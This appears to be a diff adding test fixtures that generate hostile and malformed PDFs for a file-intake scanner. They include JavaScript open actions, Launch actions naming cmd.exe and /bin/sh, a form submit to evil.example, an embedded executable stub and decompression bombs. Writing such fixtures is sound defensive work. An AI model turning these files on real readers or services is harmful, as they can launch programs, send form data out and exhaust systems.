@@ -1,0 +1,143 @@
+import { deflateSync } from 'node:zlib';
+import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
+import type { Attack } from './attack-images.ts';
+import { fixture } from './fixtures.ts';
+
+/** A plain PDF with a correct cross-reference table from its objects' bodies; object 1 is the catalogue. */
+export function plainPdf(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
+  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
+  const offsets: number[] = [];
+  const length = () => parts.reduce((sum, part) => sum + part.length, 0);
+  objects.forEach((body, index) => {
+    offsets.push(length());
+    parts.push(Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(body as string), Buffer.from('\nendobj\n'));
+  });
+  const start = length();
+  const entries = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
+  const size = objects.length + 1;
+  parts.push(
+    Buffer.from(
+      `xref\n0 ${size}\n0000000000 65535 f \n${entries}trailer\n<< /Size ${size} /Root 1 0 R ${trailer}>>\n`,
+    ),
+    Buffer.from(`startxref\n${start}\n%%EOF\n`),
+  );
+  return Buffer.concat(parts);
+}
+
+const onePage = [
+  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>',
+];
+const withAction = (action: string, ...more: string[]) =>
+  plainPdf([`<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} >>`, ...onePage, ...more]);
+
+/** PDFs that can be opened and want to do something: taken in, flagged, never run. */
+export async function activePdfs(): Promise<{ name: string; bytes: Buffer }[]> {
+  const scripted = await PDFDocument.create();
+  scripted.addPage();
+  scripted.addJavaScript('hello', 'app.alert(1)');
+  const attached = await PDFDocument.create();
+  attached.addPage();
+  await attached.attach(Buffer.from('MZ'), 'setup.exe', { mimeType: 'application/octet-stream' });
+  const pageScript = await PDFDocument.create();
+  const opening = { S: 'JavaScript', JS: PDFString.of('app.alert(2)') };
+  pageScript.addPage().node.set(PDFName.of('AA'), pageScript.context.obj({ O: opening }));
+  return [
+    { name: 'a script in a compressed name tree', bytes: Buffer.from(await scripted.save()) },
+    { name: 'an attached program', bytes: Buffer.from(await attached.save()) },
+    { name: 'a script when its page opens', bytes: Buffer.from(await pageScript.save()) },
+    { name: 'a script on opening', bytes: withAction('<< /S /JavaScript /JS (app.alert\\(1\\)) >>') },
+    { name: 'a script under an escaped name', bytes: withAction('<< /S /J#61vaScript /J#53 (x) >>') },
+    { name: 'a script in an object of its own', bytes: withAction('4 0 R', '<< /S /JavaScript /JS (x) >>') },
+    { name: 'a program to launch', bytes: withAction('<< /S /Launch /F (cmd.exe) >>') },
+    { name: 'a program under an escaped name', bytes: withAction('<< /S /L#61unch /F (/bin/sh) >>') },
+    { name: 'a form that sends itself', bytes: withAction('<< /S /SubmitForm /F (http://evil.example/) >>') },
+    { name: 'data that is imported', bytes: withAction('<< /S /ImportData /F (x.fdf) >>') },
+    { name: 'rich media', bytes: withAction('4 0 R', '<< /Type /Annot /Subtype /RichMedia >>') },
+  ];
+}
+
+type Entry = [type: number, first: number, second: number];
+
+/** A PDF whose cross-reference table is a stream (ISO 32000-1, 7.5.8). */
+function streamedPdf(
+  objects: ReadonlyMap<number, Buffer>,
+  compressed: ReadonlyMap<number, Entry>,
+  table?: Buffer,
+): Buffer {
+  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
+  const length = () => parts.reduce((sum, part) => sum + part.length, 0);
+  const entries: Entry[] = [[0, 0, 255]];
+  for (const [number, body] of objects) {
+    entries[number] = [1, length(), 0];
+    parts.push(Buffer.from(`${number} 0 obj\n`), body, Buffer.from('\nendobj\n'));
+  }
+  for (const [number, entry] of compressed) entries[number] = entry;
+  const start = length();
+  const packed = Array.from(entries, (entry) => {
+    const [type, first, second] = entry ?? [0, 0, 0];
+    const bytes = Buffer.from([type, 0, 0, 0, 0, second]);
+    bytes.writeUInt32BE(first, 1);
+    return bytes;
+  });
+  const data = table ?? deflateSync(Buffer.concat(packed));
+  const size = table ? 33_000_000 : entries.length;
+  const head = `/Type /XRef /Size ${size} /W [1 4 1] /Root 1 0 R /Filter /FlateDecode /Length ${data.length}`;
+  parts.push(Buffer.from(`9 0 obj\n<< ${head} >>\nstream\n`), data);
+  parts.push(Buffer.from(`\nendstream\nendobj\nstartxref\n${start}\n%%EOF\n`));
+  return Buffer.concat(parts);
+}
+
+const catalogueOf = (pages: string) => Buffer.from(`<< /Type /Catalog /Pages ${pages} >>`);
+
+/** Its page tree stands in a compressed stream behind that many megabytes of blanks. */
+function inflatingPdf(megabytes: number): Buffer {
+  const blanks = Buffer.alloc(megabytes * 1024 * 1024, ' ');
+  const packed = deflateSync(Buffer.concat([Buffer.from('2 0 '), blanks, Buffer.from('<< /Type /Pages >>')]));
+  const head = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`;
+  const stream = Buffer.concat([Buffer.from(head), packed, Buffer.from('\nendstream')]);
+  return streamedPdf(
+    new Map([
+      [1, catalogueOf('2 0 R')],
+      [3, stream],
+    ]),
+    new Map([[2, [2, 3, 0]]]),
+  );
+}
+
+const hugeTablePdf = () =>
+  streamedPdf(new Map([[1, catalogueOf('2 0 R')]]), new Map(), deflateSync(Buffer.alloc(200_000_000)));
+
+/** PDFs that cannot be opened or were made to exhaust whoever tries. */
+export function damagedPdfs(): Attack[] {
+  const damaged = (name: string, bytes: Buffer): Attack => ({ name, bytes, code: 'file_damaged' });
+  const good = fixture('documents/lease.pdf');
+  const catalogue = '<< /Type /Catalog /Pages 2 0 R >>';
+  return [
+    damaged('a PDF head alone', Buffer.from('%PDF-1.7\n')),
+    damaged('a PDF head before a web page', Buffer.from('%PDF-1.7\n<script>alert(1)</script>')),
+    damaged('a PDF that lacks its end', good.subarray(0, good.length - 120)),
+    damaged('a PDF that lacks its second half', good.subarray(0, good.length >> 1)),
+    damaged('a PDF without pages', plainPdf([catalogue, '<< /Type /Pages /Kids [] /Count 0 >>'])),
+    damaged('a PDF without a page tree', plainPdf(['<< /Type /Catalog >>'])),
+    damaged(
+      'a page tree that holds itself',
+      plainPdf([catalogue, '<< /Type /Pages /Kids [2 0 R] /Count 5 >>']),
+    ),
+    damaged('a billion pages', plainPdf([catalogue, '<< /Type /Pages /Kids [] /Count 1000000000 >>'])),
+    damaged('a million open brackets', plainPdf([catalogue, '['.repeat(1_000_000)])),
+    damaged(
+      'a password',
+      plainPdf(
+        [
+          catalogue,
+          ...onePage,
+          `<< /Filter /Standard /V 1 /R 2 /P -4 /O (${'o'.repeat(32)}) /U (${'u'.repeat(32)}) >>`,
+        ],
+        '/Encrypt 4 0 R /ID [(0123456789abcdef) (0123456789abcdef)] ',
+      ),
+    ),
+    damaged('a page tree behind 400 MB of blanks in 0.4 MB', inflatingPdf(400)),
+    damaged('a cross-reference table of 30 million entries', hugeTablePdf()),
+  ];
+}
